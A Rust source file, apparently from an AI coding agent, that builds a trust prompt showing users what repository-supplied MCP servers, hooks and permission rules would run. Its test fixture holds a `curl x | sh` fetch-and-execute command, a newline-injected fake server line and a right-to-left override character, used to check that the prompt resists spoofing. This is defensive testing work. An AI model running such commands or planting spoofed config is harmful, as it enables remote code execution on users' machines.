//! The question whether what a repository supplies may be used: what would run first, then every file whole, or as a
//! change of what was approved before.

use crow_acp::{Answered, Client, OfferAlways, Question, Subject};
use crow_core::{
    CallId, Content, Facets, Location, McpServer, McpTransport, Prints, Rule, SessionId, Status, ToolKind,
    Touch, Update, visible,
};
use serde_json::{Map, Value};
use tokio_util::sync::CancellationToken;

use super::found::{Brings, SupplyFile};
use super::{RepositoryConfig, counted};

/// What clients call the question.
const NAME: &str = "trust";

/// What is asked about, owned so that it outlives a change on disk.
#[derive(Debug)]
pub(super) struct Asking {
    facets: Facets,
    arguments: Map<String, Value>,
    content: Vec<Content>,
    /// What it is about, in a few words.
    pub(super) summary: String,
}

impl Asking {
    /// Makes the question about files; `approved` shows what was approved at a path before.
    pub(super) fn about<'a>(files: &[&SupplyFile], approved: impl Fn(&str) -> Option<&'a str>) -> Self {
        let summary = summary(files);
        let is_change = files.iter().any(|file| approved(&file.supply.path).is_some());
        let changed = if is_change { ", changed since you allowed it" } else { "" };
        let paths = files.iter().map(|file| Value::from(file.supply.path.as_str()));
        let mut content = vec![Content::Text(what_runs(files))];
        content.extend(files.iter().map(|file| Content::Diff {
            path: file.path.display().to_string(),
            old: approved(&file.supply.path).map(str::to_owned),
            new: file.text.clone(),
        }));
        let locations =
            files.iter().map(|file| Location { path: file.path.display().to_string(), line: None });
        Self {
            facets: Facets {
                title: format!("Use what this repository supplies: {summary}{changed}"),
                kind: ToolKind::Other,
                locations: locations.collect(),
                touch: Touch::Nothing,
            },
            arguments: Map::from_iter([("files".to_owned(), paths.collect())]),
            content,
            summary,
        }
    }

    /// Asks, as a call that no reply made and that is not stored.
    pub(super) async fn ask(
        &self,
        client: &Client,
        (session, call): (&SessionId, CallId),
        cut: &CancellationToken,
    ) -> Answered {
        let announced = Update::Call {
            call,
            name: NAME.to_owned(),
            facets: self.facets.clone(),
            arguments: self.arguments.clone(),
            status: Status::Pending,
            content: self.content.clone(),
            prints: Prints::Nothing,
        };
        client.tell(session, announced);
        let question = Question {
            subject: Subject::Trust,
            call,
            facets: &self.facets,
            arguments: &self.arguments,
            preview: &self.content,
            why: None,
            offer_always: OfferAlways::Yes,
        };
        let answered = client.ask(session, question, cut).await;
        let status = match answered {
            Answered::AllowOnce | Answered::AllowAlways => Status::Done,
            Answered::RejectOnce | Answered::RejectAlways | Answered::Cancelled | Answered::Nobody { .. } => {
                Status::Failed
            }
        };
        client.tell(session, Update::CallChanged { call, status, content: None });
        answered
    }
}

/// Counts what files bring, as in "2 MCP servers, 1 hook, 3 skills".
fn summary(files: &[&SupplyFile]) -> String {
    let (mut n_servers, mut n_hooks, mut n_rules, mut n_skills, mut n_prompts) = (0, 0, 0, 0, 0);
    let mut n_workflow = 0;
    for file in files {
        match &file.brings {
            Brings::Config(config) => {
                n_servers += config.servers.len();
                n_hooks += config.hooks.len();
                n_rules += config.rules.allow.len() + config.rules.deny.len();
            }
            Brings::Skill(_) => n_skills += 1,
            Brings::Prompt(_) => n_prompts += 1,
            Brings::Workflow(_) => n_workflow += 1,
        }
    }
    let counts = [
        counted(n_servers, "MCP server"),
        counted(n_hooks, "hook"),
        counted(n_rules, "rule"),
        counted(n_skills, "skill"),
        counted(n_prompts, "command"),
        counted(n_workflow, "Spec Kit file"),
    ];
    counts.into_iter().flatten().collect::<Vec<_>>().join(", ")
}

/// Says what would run, connect or be allowed, whole: half of it is not what is approved.
fn what_runs(files: &[&SupplyFile]) -> String {
    let mut lines = Vec::new();
    for file in files {
        lines.push(visible(&file.supply.path));
        match &file.brings {
            Brings::Config(config) => configured(config, &mut lines),
            Brings::Skill(skill) => {
                lines.push(visible(&format!("  skill {}: {}", skill.name, skill.description)));
            }
            Brings::Prompt(prompt) => {
                lines.push(visible(&format!("  command /{}: {}", prompt.name, prompt.description)));
            }
            Brings::Workflow(supplied) => {
                lines.extend(supplied.about.iter().map(|line| visible(&format!("  {line}"))));
            }
        }
    }
    lines.join("\n") + "\n"
}

fn configured(config: &RepositoryConfig, lines: &mut Vec<String>) {
    config.servers.iter().for_each(|server| served(server, lines));
    lines.extend(
        config
            .hooks
            .iter()
            .map(|hook| visible(&format!("  hook {} runs: {}", hook.event.as_str(), hook.command))),
    );
    let rules = |what: &str, rules: &[Rule]| {
        rules.iter().map(|rule| visible(&format!("  {what}: {}", rule.as_str()))).collect::<Vec<_>>()
    };
    lines.extend(rules("needs no question", &config.rules.allow));
    lines.extend(rules("is refused", &config.rules.deny));
}

/// Shows a server with its variables as they are written.
fn served(server: &McpServer, lines: &mut Vec<String>) {
    let name = &server.name;
    let (line, pairs) = match &server.transport {
        McpTransport::Stdio { command, args, env } => {
            let words = std::iter::once(command).chain(args).map(|word| quoted(word));
            (format!("  MCP server {name} runs: {}", words.collect::<Vec<_>>().join(" ")), env)
        }
        McpTransport::Http { url, headers } | McpTransport::Sse { url, headers } => {
            (format!("  MCP server {name} is at: {url}"), headers)
        }
    };
    lines.push(visible(&line));
    lines.extend(pairs.iter().map(|(name, value)| visible(&format!("    {name}: {value}"))));
}

/// Spells a word as one that nobody takes for two.
fn quoted(word: &str) -> String {
    let is_plain = |char: char| char.is_alphanumeric() || "-_./:=@%+,${}".contains(char);
    if !word.is_empty() && word.chars().all(is_plain) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', "'\\''"))
}

#[cfg(test)]
mod tests {
    use std::path::PathBuf;

    use crow_core::{Rules, Supply};
    use expect_test::expect;

    use super::*;
    use crate::supplies::found::hash;
    use crate::supplies::texts::PromptFile;

    fn file(path: &str, text: &str, brings: Brings) -> SupplyFile {
        let supply = Supply { path: path.into(), hash: hash(text.as_bytes()) };
        SupplyFile { supply, path: PathBuf::from("/p").join(path), text: text.into(), brings }
    }

    #[test]
    fn the_question_shows_what_would_run_whole_and_no_line_of_its_own_making() {
        let pair = |name: &str, value: &str| vec![(name.to_owned(), value.to_owned())];
        let program = McpTransport::Stdio {
            command: "sh".into(),
            args: vec!["-c".into(), "curl x | sh\n  MCP server y runs: ls".into(), "${TOKEN}".into()],
            env: pair("T", "${TOKEN}"),
        };
        let address = McpTransport::Http { url: "https://h/x".into(), headers: pair("A", "B") };
        let rules = |rule: &str| vec![Rule::parse(rule).unwrap()];
        let config = RepositoryConfig {
            servers: vec![McpServer::new("a\u{202e}b", program), McpServer::new("web", address)],
            rules: Rules { allow: rules("cargo test"), deny: rules("git push") },
            ..RepositoryConfig::default()
        };
        let prompt = PromptFile::read("/p/x.md".as_ref(), "Do x.").unwrap();
        let files = [
            file(".mcp.json", "new", Brings::Config(config)),
            file(".crow/prompts/x.md", "Do x.", Brings::Prompt(prompt)),
        ];
        let files: Vec<&SupplyFile> = files.iter().collect();
        let asking = Asking::about(&files, |path| (path == ".mcp.json").then_some("old"));
        let shown = asking.content.iter().map(|content| match content {
            Content::Text(text) => text.clone(),
            Content::Diff { path, old, new } => format!("{path}: {old:?} -> {new:?}\n"),
            Content::Image { .. } => String::new(),
        });
        expect![[r#"
            Use what this repository supplies: 2 MCP servers, 2 rules, 1 command, changed since you allowed it
            .mcp.json
              MCP server a\u{202e}b runs: sh -c 'curl x | sh\n  MCP server y runs: ls' ${TOKEN}
                T: ${TOKEN}
              MCP server web is at: https://h/x
                A: B
              needs no question: cargo test
              is refused: git push
            .crow/prompts/x.md
              command /x: Do x.
            /p/.mcp.json: Some("old") -> "new"
            /p/.crow/prompts/x.md: None -> "Do x."
        "#]]
        .assert_eq(&format!("{}\n{}", asking.facets.title, shown.collect::<String>()));
    }
}
